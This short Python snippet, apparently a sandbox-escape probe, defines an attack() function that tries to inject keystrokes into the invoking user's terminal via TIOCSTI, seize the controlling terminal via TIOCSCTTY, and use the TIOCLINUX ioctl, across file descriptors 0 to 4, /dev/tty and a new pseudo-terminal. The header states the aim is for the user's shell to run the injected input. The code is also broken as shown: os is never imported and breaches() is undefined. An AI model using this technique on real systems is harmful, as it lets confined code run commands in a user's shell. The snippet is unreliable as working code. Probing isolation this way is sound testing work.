# Types into the terminal of whoever started it: the shell there would run what is typed.
# job: function | ends: completed | reaches: out
import fcntl
import termios


def attack():
    roads = {f"typed_{fd}": lambda fd=fd: fcntl.ioctl(fd, termios.TIOCSTI, b"x") for fd in range(5)}
    roads |= {f"taken_{fd}": lambda fd=fd: fcntl.ioctl(fd, termios.TIOCSCTTY, 1) for fd in range(5)}
    roads |= {f"linux_{fd}": lambda fd=fd: fcntl.ioctl(fd, 0x541C, b"\x02") for fd in range(5)}
    return breaches(terminal=lambda: os.open("/dev/tty", os.O_RDWR), pty=lambda: os.openpty(), **roads)
